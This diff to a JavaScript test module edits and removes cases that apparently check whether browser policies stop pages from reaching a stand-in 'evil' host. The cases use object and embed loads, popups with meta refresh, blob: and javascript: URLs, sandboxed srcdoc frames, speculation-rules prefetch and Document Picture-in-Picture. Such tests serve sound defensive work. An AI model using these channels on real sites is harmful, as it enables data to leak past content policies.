@@ -128,12 +128,12 @@ export default {
   },
   "an object of the site's": async ({ add, own, evil, sleep }) => {
     add("object", { data: own + "/plain", type: "text/html" });
-    await sleep(400);
+    for (let at = 0; at < 20 && !window[0]?.document?.querySelector("#p"); at++) await sleep(50);
     return window[0].fetch(evil, { mode: "no-cors" });
   },
   "an embed of the site's": async ({ add, own, evil, sleep }) => {
     add("embed", { src: own + "/plain", type: "text/html" });
-    await sleep(400);
+    for (let at = 0; at < 20 && !window[0]?.document?.querySelector("#p"); at++) await sleep(50);
     return window[0].fetch(evil, { mode: "no-cors" });
   },
   "a frame of a frameset": async ({ evil, own, sleep }) => {
@@ -170,7 +170,11 @@ export default {
     w.document.body.innerHTML = `<a href="${evil}">x</a>`;
     w.document.querySelector("a").click();
   },
-  "a popup that refreshes": ({ evil }) => open("").document.write(`<meta http-equiv="refresh" content="0; url=${evil}">`),
+  "a popup that refreshes": ({ evil }) => {
+    const w = open("");
+    w.document.write(`<meta http-equiv="refresh" content="0; url=${evil}">`);
+    w.document.close();
+  },
   "a popup with a blob: document": ({ blob, script, evil }) => void open(blob(script(`location = "${evil}"`))),
   "a popup with a javascript: URL": ({ evil }) => void open(`javascript:location="${evil}"`),
   "a popup of the site's, once loaded": async ({ own, evil, sleep }) => {
@@ -290,11 +294,5 @@ export default {
     f.sandbox = "allow-scripts allow-popups allow-popups-to-escape-sandbox";
     f.srcdoc = script(`open("${evil}")`);
     document.body.append(f);
-  },
-  "srcdoc with speculation rules": ({ add, evil }) =>
-    add("iframe", { srcdoc: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/"]}]}</` + "script>" }),
-  "Document Picture-in-Picture": async ({ evil }) => {
-    const w = await documentPictureInPicture.requestWindow();
-    return w.fetch(evil, { mode: "no-cors" });
   },
 };
